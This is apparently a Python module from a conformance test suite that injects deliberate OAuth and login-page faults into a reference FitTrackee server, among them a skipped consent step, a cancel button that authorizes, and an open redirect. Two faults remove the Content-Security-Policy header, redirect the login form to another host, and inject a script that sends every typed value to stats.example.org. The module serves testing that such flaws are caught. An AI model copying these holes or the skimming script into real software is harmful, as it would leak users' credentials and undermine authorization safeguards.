"""Faults of the pages as a user sees them in a browser."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

from flask import redirect, request

from conformance.faults import fault

if TYPE_CHECKING:
    from flask import Response
    from flask.typing import ResponseReturnValue

    from conformance.reference import ReferenceServer

CONSENT = "GET /profile/apps/authorize"
AUTHORIZE = "POST /api/oauth/authorize"
REGISTER = "POST /api/oauth/apps"
LOGIN = "GET /login"
ELSEWHERE = 'method="post" action="https://login.example.org/"'
TELLING = """
document.addEventListener("change", (event) => fetch(
  `https://stats.example.org/${encodeURIComponent(event.target.value)}`));
"""
SCRIPT = re.compile(r"<script[^>]*></script>")


def _in_a_browser() -> bool:
    """Whether a browser sent the request: it has Fetch Metadata headers."""
    return "Sec-Fetch-Mode" in request.headers


@fault(violates="fittrackee/oauth/browser-flow")
def authorize_button_is_dead(server: ReferenceServer) -> None:
    """Clicking "Authorize" does nothing."""
    server.page("authorize", lambda html: SCRIPT.sub("", html))


@fault(violates="fittrackee/oauth/browser-flow")
def browser_loses_the_state(server: ReferenceServer) -> None:
    """In a browser, the state is missing from the redirection."""
    original: Any = None

    def forgetful(state: str | None) -> str | None:
        return None if _in_a_browser() else original(state)

    original = server.replace("state_returned", forgetful)


@fault(violates="fittrackee/oauth/consent-asks-first")
def known_user_is_not_asked(server: ReferenceServer) -> None:
    """A logged-in user is redirected to the app without consent."""

    def skip(view: Any) -> Any:
        def redirecting(*args: Any, **kwargs: Any) -> ResponseReturnValue:
            uri = request.args.get("redirect_uri", "")
            if not uri.startswith("http://127.0.0.1"):
                return view(*args, **kwargs)  # type: ignore[no-any-return]
            query = {"code": "c" * 48, "state": request.args.get("state")}
            return redirect(f"{uri}?{urlencode(query)}")

        return redirecting

    server.wrap(CONSENT, skip)


@fault(violates="rfc6749/10.2/consent-names-app")
def consent_page_hides_app(server: ReferenceServer) -> None:
    """The consent page does not name the app."""
    server.page(
        "authorize",
        lambda html: re.sub(
            r'(id="authorize-app-name"[^>]*>)[^<]*', r"\1", html
        ),
    )


@fault(violates="rfc6749/10.2/consent-lists-requested-scope")
def consent_page_hides_a_scope(server: ReferenceServer) -> None:
    """The consent page does not show the first scope."""
    entry = re.compile(r'<dt class="client-scope">.*?</dd>', re.DOTALL)
    server.page("authorize", lambda html: entry.sub("", html, count=1))


@fault(violates="fittrackee/oauth/login-returns-to-consent")
def login_forgets_the_request(server: ReferenceServer) -> None:
    """After the login, the user is not returned to the consent page."""

    def forget(response: Response) -> None:
        if response.location:
            response.location = response.location.partition("?")[0]

    server.after(CONSENT, forget)


@fault(violates="fittrackee/oauth/cancel-issues-nothing")
def cancelling_authorizes(server: ReferenceServer) -> None:
    """The cancel button authorizes the app."""
    original: Any = None

    def given(confirm: str | None) -> bool:
        return _in_a_browser() or original(confirm)

    original = server.replace("consent_given", given)


@fault(violates="fittrackee/oauth/unknown-app-cannot-be-authorized")
def unknown_app_is_offered(server: ReferenceServer) -> None:
    """The consent page for an unknown app has an authorize button."""
    buttons = (
        '<div class="authorize-oauth2-buttons">'
        '<button class="danger" type="button">Authorize</button></div>'
    )
    server.page(
        "authorize",
        lambda html: html.replace(
            '<p class="no-app">', f'{buttons}<p class="no-app">'
        ),
    )


@fault(violates="rfc6749/4.1.2.1/user-is-told-of-unknown-client")
def unknown_app_gets_an_empty_page(server: ReferenceServer) -> None:
    """The consent page for an unknown app shows no error."""
    words = re.compile(r'<p class="no-app">[^<]*</p>')
    server.page("authorize", lambda html: words.sub("", html))


@fault(violates="rfc6749/3.1.2.4/browser-stays")
def browser_follows_any_redirect_uri(server: ReferenceServer) -> None:
    """The consent page redirects to an unregistered URI."""

    def follow(response: Response) -> None:
        uri = request.form.get("redirect_uri")
        if response.status_code == 400 and uri and _in_a_browser():
            response.status_code = 200
            location = f"{uri}?error=invalid_request"
            response.set_data(json.dumps({"redirect_url": location}))

    server.after(AUTHORIZE, follow)


@fault(violates="fittrackee/oauth/registration-shows-credentials")
def new_app_hides_its_id(server: ReferenceServer) -> None:
    """The page after a registration does not show the client id."""
    identifier = re.compile(r"<dd[^>]*>\s*[A-Za-z0-9]{24}\s*</dd>")
    server.page("created", lambda html: identifier.sub("<dd></dd>", html))


@fault(violates="fittrackee/oauth/secret-is-shown-once")
def secret_is_shown_again(server: ReferenceServer) -> None:
    """The page of a new app shows the secret on every visit."""
    newest: dict[str, str] = {}

    def remember(response: Response) -> None:
        body = response.get_json(silent=True) or {}
        client = body.get("data", {}).get("client", {})
        newest["secret"] = client.get("client_secret", "")

    server.after(REGISTER, remember)
    server.page(
        "created",
        lambda html: re.sub(
            r'(<dd class="app-secret"[^>]*>)[^<]*',
            lambda found: found[1] + newest.get("secret", ""),
            html,
        ),
    )


def _let_pages_talk(server: ReferenceServer) -> None:
    """Drop the header that restricts the login page to its origin."""

    def uncover(response: Response) -> None:
        response.headers.pop("Content-Security-Policy", None)

    server.after(LOGIN, uncover)


@fault(violates="robustness/login-form-stays")
def login_form_is_sent_elsewhere(server: ReferenceServer) -> None:
    """The login form is submitted to another host."""

    def change(html: str) -> str:
        html = SCRIPT.sub("", html).replace('method="post"', ELSEWHERE)
        return html.replace("<input id=", '<input name="typed" id=')

    _let_pages_talk(server)
    server.page("login", change)


@fault(violates="robustness/login-form-stays")
def login_page_tells_another_host(server: ReferenceServer) -> None:
    """A script of the login page sends the input to another host."""
    _let_pages_talk(server)
    server.page("login", lambda html: f"{html}<script>{TELLING}</script>")
